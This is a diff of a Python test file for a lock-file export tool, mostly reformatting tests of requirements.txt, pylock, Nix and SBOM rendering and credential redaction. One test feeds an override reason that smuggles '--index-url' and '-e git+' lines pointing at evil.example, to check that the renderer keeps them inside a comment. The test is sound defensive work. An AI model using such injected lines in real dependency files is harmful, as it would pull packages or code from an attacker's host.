@@ -1,4 +1,5 @@
-"""The pure exports: URLs safe to write, requirements.txt and pylock rendering and reading, stale-file detection."""
+"""The pure exports: URLs safe to write, requirements.txt and pylock rendering and reading,
+stale-file detection."""
 
 from __future__ import annotations
 
@@ -13,7 +14,11 @@ from envgen.lockio.exports.common import direct_url
 from envgen.lockio.exports.derived import derived_files, derived_problems, installable
 from envgen.lockio.exports.nix import render_nix
 from envgen.lockio.exports.pylock import expected_pylock, parse_pylock, render_pylock
-from envgen.lockio.exports.requirements_txt import expected_requirements, parse_requirements, render_requirements
+from envgen.lockio.exports.requirements_txt import (
+    expected_requirements,
+    parse_requirements,
+    render_requirements,
+)
 from envgen.lockio.exports.sbom import render_cyclonedx
 from envgen.model import (
     AppliedOverride,
@@ -37,16 +42,49 @@ SHA_A, SHA_B, SHA_C = "a" * 64, "b" * 64, "c" * 64
 def lock(**changes: object) -> Lock:
     indexes = (
         Index("pypi", "https://${PYPI_USER}:${PYPI_TOKEN}@pypi.example/simple"),
-        Index("extra", "https://${EXTRA_TOKEN}@extra.example/simple", explicit=True, trusted_host="extra.example"),
+        Index(
+            "extra",
+            "https://${EXTRA_TOKEN}@extra.example/simple",
+            explicit=True,
+            trusted_host="extra.example",
+        ),
     )
     pip = (
-        PipEntry("torch", "2.10.0", "linux-64", "https://pypi.example/f/torch-2.10.0-x86_64.whl", SHA_A,
-                 depends=(("numpy", ">=1.26"),), index="pypi"),
-        PipEntry("numpy", "1.26.4", "linux-64", "https://pypi.example/f/numpy-1.26.4-x86_64.whl", SHA_B, index="pypi"),
-        PipEntry("triton-ascend", "3.2.0", "linux-64", "https://extra.example/f/triton_ascend-3.2.0.whl", SHA_C,
-                 index="extra"),
-    )  # fmt: skip
-    python = CondaEntry("python", "3.11.9", "h0", "linux-64", "https://conda.example/python.conda", "d" * 32, "e" * 64)
+        PipEntry(
+            "torch",
+            "2.10.0",
+            "linux-64",
+            "https://pypi.example/f/torch-2.10.0-x86_64.whl",
+            SHA_A,
+            depends=(("numpy", ">=1.26"),),
+            index="pypi",
+        ),
+        PipEntry(
+            "numpy",
+            "1.26.4",
+            "linux-64",
+            "https://pypi.example/f/numpy-1.26.4-x86_64.whl",
+            SHA_B,
+            index="pypi",
+        ),
+        PipEntry(
+            "triton-ascend",
+            "3.2.0",
+            "linux-64",
+            "https://extra.example/f/triton_ascend-3.2.0.whl",
+            SHA_C,
+            index="extra",
+        ),
+    )
+    python = CondaEntry(
+        "python",
+        "3.11.9",
+        "h0",
+        "linux-64",
+        "https://conda.example/python.conda",
+        "d" * 32,
+        "e" * 64,
+    )
     values: dict[str, object] = {
         "env": "a5",
         "input_hash": "f" * 64,
@@ -74,7 +112,10 @@ def test_only_credential_references_are_written(url: str, written: str) -> None:
 
 def test_a_direct_reference_carries_its_index_credential_reference() -> None:
     triton = lock().pip[2]
-    assert direct_url(lock(), triton) == "https://${EXTRA_TOKEN}@extra.example/f/triton_ascend-3.2.0.whl"
+    assert (
+        direct_url(lock(), triton)
+        == "https://${EXTRA_TOKEN}@extra.example/f/triton_ascend-3.2.0.whl"
+    )
 
 
 def test_requirements_pin_index_packages_by_version_and_explicit_ones_by_url() -> None:
@@ -83,7 +124,10 @@ def test_requirements_pin_index_packages_by_version_and_explicit_ones_by_url() -
     assert "--trusted-host extra.example\n" in text
     assert "extra.example/simple" not in text
     assert "torch==2.10.0 \\\n    --hash=sha256:" + SHA_A in text
-    assert "triton-ascend @ https://${EXTRA_TOKEN}@extra.example/f/triton_ascend-3.2.0.whl \\\n" in text
+    assert (
+        "triton-ascend @ https://${EXTRA_TOKEN}@extra.example/f/triton_ascend-3.2.0.whl \\\n"
+        in text
+    )
     assert "    # via torch\n" in text
     assert "python 3.11 venv" in text
     assert parse_requirements(text, "r") == expected_requirements(lock(), "linux-64")
@@ -91,15 +135,22 @@ def test_requirements_pin_index_packages_by_version_and_explicit_ones_by_url() -
 
 @pytest.mark.parametrize("newline", ["\n", "\r", "\u2028", "\x0b", "\x1c"])
 def test_a_multi_line_override_reason_stays_inside_its_comment(newline: str) -> None:
-    # A reason is prose (the matrix allows newlines in it); pip splits lines on every one of these, so a
-    # reason ending its `# via` comment would add an option line: another index, an editable install.
-    reason = f"fixes a bug{newline}--index-url https://evil.example/simple{newline}-e git+https://evil.example/x"
+    # A reason is prose (the matrix allows newlines in it); pip splits lines on every one of these,
+    # so a reason ending its `# via` comment would add an option line: another index, an editable
+    # install.
+    reason = (
+        f"fixes a bug{newline}--index-url https://evil.example/simple{newline}-e "
+        "git+https://evil.example/x"
+    )
     hostile = lock(overrides=(AppliedOverride(Override("numpy", "numpy==1.26.4", reason)),))
     text = render_requirements(hostile, "linux-64")
     options = [line for line in text.splitlines() if line.startswith("-")]
     index = "--index-url https://${PYPI_USER}:${PYPI_TOKEN}@pypi.example/simple"
     assert options == [index, "--trusted-host extra.example"]
-    assert "    #   override numpy==1.26.4: fixes a bug --index-url https://evil.example/simple -e git+" in text
+    assert (
+        "    #   override numpy==1.26.4: fixes a bug --index-url "
+        "https://evil.example/simple -e git+" in text
+    )
 
 
 def test_requirements_without_a_default_index_search_none() -> None:
@@ -135,7 +186,9 @@ def test_missing_edited_and_stale_derived_files_are_named(tmp_path: Path) -> Non
     requirements = tmp_path / "a5.linux-64.requirements.txt"
     requirements.write_text(requirements.read_text().replace(SHA_B, "0" * 64))
     problems = derived_problems(tmp_path, lock(), None)
-    assert problems[0].startswith("locks/a5.linux-64.requirements.txt does not carry the yml's artifacts and hashes")
+    assert problems[0].startswith(
+        "locks/a5.linux-64.requirements.txt does not carry the yml's artifacts and hashes"
+    )
     words = f"numpy: 1.26.4, sha256 000000000000 here, 1.26.4, sha256 {SHA_B[:12]} in the lock"
     assert words in problems[0]
     assert problems[1] == "locks/pylock.a5-linux-64.toml is missing"
@@ -143,7 +196,8 @@ def test_missing_edited_and_stale_derived_files_are_named(tmp_path: Path) -> Non
     _write_all(tmp_path, lock())
     requirements.write_text(requirements.read_text().replace("# via torch", "# via something else"))
     assert derived_problems(tmp_path, lock(), None) == [
-        "locks/a5.linux-64.requirements.txt was edited by hand (its artifacts match, its text differs from the "
+        "locks/a5.linux-64.requirements.txt was edited by hand (its artifacts match, "
+        "its text differs from the "
         "lock's rendering)"
     ]
 
@@ -175,15 +229,24 @@ def test_nix_strings_escape_interpolation_and_quotes() -> None:
 
 
 def submodules_lock() -> Lock:
-    """A source with a submodule (its URL with credentials) and a nested one, and a source without any."""
+    """A source with a submodule (its URL with credentials) and a nested one, and a source without
+    any."""
     kernels = Submodule("csrc/kernels", "https://user:s3cret@github.com/org/kernels.git", "1" * 40)
-    grand = Submodule("csrc/kernels/third_party/grand", "https://github.com/org/grand.git", "2" * 40)
+    grand = Submodule(
+        "csrc/kernels/third_party/grand", "https://github.com/org/grand.git", "2" * 40
+    )
     source = Source("vllm-ascend", "https://github.com/org/vllm-ascend.git", "main", "vllm_ascend")
-    plain = LockedSource(Source("verl", "https://github.com/org/verl.git", "main", "verl"), "4" * 40)
-    return make_lock("a5", sources=(LockedSource(source, "3" * 40, submodules=(kernels, grand)), plain))
+    plain = LockedSource(
+        Source("verl", "https://github.com/org/verl.git", "main", "verl"), "4" * 40
+    )
+    return make_lock(
+        "a5", sources=(LockedSource(source, "3" * 40, submodules=(kernels, grand)), plain)
+    )
 
 
-@pytest.mark.skipif(shutil.which("nix-instantiate") is None, reason="nix-instantiate is not installed")
+@pytest.mark.skipif(
+    shutil.which("nix-instantiate") is None, reason="nix-instantiate is not installed"
+)
 def test_the_nix_expression_names_each_submodule_at_its_gitlink(tmp_path: Path) -> None:
     text = render_nix(submodules_lock())
     assert "s3cret" not in text
@@ -193,7 +256,11 @@ def test_the_nix_expression_names_each_submodule_at_its_gitlink(tmp_path: Path) 
     assert proc.returncode == 0, proc.stderr
     first, plain = json.loads(proc.stdout)["sources"]
     assert [(s["path"], s["rev"], s["fetchGit"]) for s in first["submodules"]] == [
-        ("csrc/kernels", "1" * 40, {"url": "https://github.com/org/kernels.git", "rev": "1" * 40, "allRefs": True}),
+        (
+            "csrc/kernels",
+            "1" * 40,
+            {"url": "https://github.com/org/kernels.git", "rev": "1" * 40, "allRefs": True},
+        ),
         (
             "csrc/kernels/third_party/grand",
             "2" * 40,
@@ -209,7 +276,11 @@ def test_the_sbom_holds_each_submodule_as_a_component_of_its_source() -> None:
     parts = components["source:vllm-ascend"]["components"]
     assert [(p["name"], p["version"], p["purl"].split("?vcs_url=")[1]) for p in parts] == [
         ("csrc/kernels", "1" * 40, f"git%2Bhttps://github.com/org/kernels.git%40{'1' * 40}"),
-        ("csrc/kernels/third_party/grand", "2" * 40, f"git%2Bhttps://github.com/org/grand.git%40{'2' * 40}"),
+        (
+            "csrc/kernels/third_party/grand",
+            "2" * 40,
+            f"git%2Bhttps://github.com/org/grand.git%40{'2' * 40}",
+        ),
     ]
     assert "s3cret" not in text and "components" not in components["source:verl"]
 
